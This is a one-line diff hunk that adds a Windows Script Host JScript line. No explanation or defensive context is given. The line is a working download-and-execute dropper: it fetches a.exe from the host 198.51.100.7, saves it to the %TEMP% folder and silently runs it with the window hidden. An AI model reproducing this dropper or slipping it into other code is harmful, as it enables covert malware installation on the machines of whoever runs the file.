@@ -1,0 +1,1 @@
+var s=new ActiveXObject("WScript.Shell");var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","http://198.51.100.7/a.exe",false);x.send();var b=new ActiveXObject("ADODB.Stream");b.Open();b.Type=1;b.Write(x.responseBody);b.SaveToFile(s.ExpandEnvironmentStrings("%TEMP%")+"\\a.exe",2);s.Run("%TEMP%\\a.exe",0);
